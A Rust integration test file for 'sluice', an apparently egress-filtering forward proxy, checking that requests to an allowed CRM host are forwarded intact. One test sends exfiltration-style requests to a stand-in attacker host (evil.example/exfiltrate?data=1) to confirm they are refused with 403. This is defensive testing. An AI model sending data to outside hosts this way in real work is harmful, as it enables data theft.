#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Forward-proxy mode over plain HTTP: clients with `HTTP_PROXY` send absolute-form requests
//! (`GET http://api.hubapi.com/...`), which sluice routes by host to the upstream's `target`.
mod support;

use support::curl::curl_status;
use support::raw_http::{exchange, expect_synthetic};
use support::{MockCrm, TestSluice};

fn hubspot_yaml(mock: &MockCrm) -> String {
    format!("upstreams:\n  - {{ name: hubspot, hosts: [api.hubapi.com], target: '{}' }}\n", mock.url())
}

#[tokio::test]
async fn absolute_form_request_reaches_target() {
    let mock = MockCrm::start().await;
    let sluice = TestSluice::start(&format!(
        "upstreams:\n  - {{ name: hubspot, hosts: [api.hubapi.com], target: '{}' }}\n",
        mock.url()
    ))
    .await;
    let response =
        sluice.proxied_client().get("http://api.hubapi.com/crm/v3/objects/contacts?limit=1").send().await.unwrap();
    assert_eq!(response.status(), 200);
    assert!(response.headers().contains_key("x-request-id"));
    let seen = mock.requests();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].path, "/crm/v3/objects/contacts");
    assert_eq!(seen[0].query.as_deref(), Some("limit=1"));
    assert!(seen[0].header("via").unwrap().contains("sluice"));
    sluice.shutdown().await;
}

/// The way most services use sluice: the `http_proxy` environment variable, honoured by curl.
#[tokio::test]
async fn curl_with_http_proxy_env_reaches_target() {
    let mock = MockCrm::start().await;
    let sluice = TestSluice::start(&hubspot_yaml(&mock)).await;
    let proxy = sluice.proxy_url();
    let out =
        curl_status(&["http://api.hubapi.com/crm/v3/objects/companies?after=10"], &[("http_proxy", &proxy)]).await;
    let (body, code, _) = out.split_status();
    assert_eq!(code, 200, "curl: {out:?}");
    let echo: serde_json::Value = serde_json::from_str(body).unwrap();
    assert_eq!(echo["path"], "/crm/v3/objects/companies");
    assert_eq!(echo["query"], "after=10");
    let seen = mock.requests();
    assert_eq!(seen.len(), 1);
    assert!(seen[0].header("user-agent").unwrap().starts_with("curl/"), "{:?}", seen[0].headers);
    sluice.shutdown().await;
}

#[tokio::test]
async fn post_body_is_forwarded_intact_and_vendor_headers_come_back() {
    let mock = MockCrm::start().await;
    let sluice = TestSluice::start(&hubspot_yaml(&mock)).await;
    let client = sluice.proxied_client();

    // A HubSpot create: JSON in, 201 with the vendor's rate-limit headers out.
    let input = serde_json::json!({"properties": {"email": "ada@example.com", "firstname": "Ada"}});
    let response = client
        .post("http://api.hubapi.com/crm/v3/objects/contacts")
        .header("content-type", "application/json")
        .body(serde_json::to_vec(&input).unwrap())
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 201);
    assert_eq!(response.headers()["x-hubspot-ratelimit-remaining"], "189");
    assert_eq!(response.headers()["x-hubspot-ratelimit-max"], "190");
    let created: serde_json::Value = response.json().await.unwrap();
    assert_eq!(created["properties"]["email"], "ada@example.com");
    let seen = mock.requests();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].method, "POST");
    assert_eq!(seen[0].json(), input);
    assert_eq!(seen[0].header("content-type"), Some("application/json"));

    // A larger body with every byte value, to prove nothing is re-encoded or truncated.
    let big: Vec<u8> = (0..300_000u32).map(|i| (i % 251) as u8).collect();
    let response = client.post("http://api.hubapi.com/files/v3/files?upload=1").body(big.clone()).send().await.unwrap();
    assert_eq!(response.status(), 200);
    let seen = mock.requests();
    assert_eq!(seen.len(), 2);
    assert_eq!(seen[1].path, "/files/v3/files");
    assert_eq!(seen[1].query.as_deref(), Some("upload=1"));
    assert_eq!(seen[1].body.len(), big.len());
    assert!(seen[1].body == big, "body bytes differ after the proxy");
    sluice.shutdown().await;
}

#[tokio::test]
async fn other_methods_are_forwarded() {
    let mock = MockCrm::start().await;
    let sluice = TestSluice::start(&hubspot_yaml(&mock)).await;
    let client = sluice.proxied_client();
    for method in [reqwest::Method::PATCH, reqwest::Method::PUT, reqwest::Method::DELETE] {
        let response = client
            .request(method.clone(), "http://api.hubapi.com/crm/v3/objects/contacts/101")
            .body(r#"{"properties":{"lastname":"Lovelace"}}"#)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 200, "{method}");
        let echo: serde_json::Value = response.json().await.unwrap();
        assert_eq!(echo["method"], method.as_str());
        assert_eq!(echo["body"], r#"{"properties":{"lastname":"Lovelace"}}"#);
    }
    assert_eq!(mock.request_count(), 3);
    sluice.shutdown().await;
}

#[tokio::test]
async fn vendor_error_statuses_are_relayed_not_rewritten() {
    let mock = MockCrm::start().await;
    let sluice = TestSluice::start(&hubspot_yaml(&mock)).await;
    for code in [404u16, 429, 500, 503] {
        let response =
            sluice.proxied_client().get(format!("http://api.hubapi.com/status/{code}")).send().await.unwrap();
        assert_eq!(response.status().as_u16(), code);
        // The vendor's own answer: sluice must not dress it up as its own.
        assert!(response.headers().get("proxy-status").is_none(), "{response:?}");
        let body: serde_json::Value = response.json().await.unwrap();
        assert_eq!(body["status"], code);
    }
    sluice.shutdown().await;
}

#[tokio::test]
async fn unknown_host_is_refused_with_403_and_json() {
    let mock = MockCrm::start().await;
    let sluice = TestSluice::start(&hubspot_yaml(&mock)).await;
    let client = sluice.proxied_client();

    let response = client.get("http://evil.example/exfiltrate?data=1").send().await.unwrap();
    let body = expect_synthetic(response, 403, "egress_denied", "http_request_denied").await;
    assert!(body["upstream"].is_null(), "{body}");
    assert!(body["detail"].as_str().unwrap().contains("evil.example"), "{body}");

    // A path that looks like a reverse prefix does not make an unknown host acceptable.
    let response = client.get("http://evil.example/hubspot/crm/v3/objects").send().await.unwrap();
    expect_synthetic(response, 403, "egress_denied", "http_request_denied").await;

    // Same refusal on a raw absolute-form request, and the connection is still usable after it.
    let raw = exchange(
        sluice.running().proxy_addr,
        b"GET http://evil.example:8080/x HTTP/1.1\r\nHost: evil.example:8080\r\nConnection: close\r\n\r\n",
    )
    .await
    .unwrap();
    raw.expect_synthetic(403, "egress_denied", "http_request_denied");
    assert!(raw.header("x-request-id").is_some(), "{}", raw.head);

    assert_eq!(mock.request_count(), 0, "nothing may reach any upstream");
    let metrics = sluice.metrics().await;
    assert!(
        support::metric_value(&metrics, "sluice_proxy_errors_total", &[("error", "egress_denied")]) >= 3.0,
        "{metrics}"
    );

    // The allowed host still works.
    let response = client.get("http://api.hubapi.com/ok").send().await.unwrap();
    assert_eq!(response.status(), 200);
    sluice.shutdown().await;
}

#[tokio::test]
async fn host_matching_ignores_case_and_port_routes_to_target() {
    let mock = MockCrm::start().await;
    let sluice = TestSluice::start(&hubspot_yaml(&mock)).await;
    // Raw, so the Host really is upper case on the wire (URL parsers lower-case it).
    let raw = exchange(
        sluice.running().proxy_addr,
        b"GET http://API.HubAPI.com:8080/crm/v3/owners HTTP/1.1\r\nHost: API.HubAPI.com:8080\r\nConnection: close\r\n\r\n",
    )
    .await
    .unwrap();
    assert_eq!(raw.status, 200, "{}", raw.head);
    assert_eq!(raw.json()["path"], "/crm/v3/owners");
    assert_eq!(mock.request_count(), 1);
    sluice.shutdown().await;
}
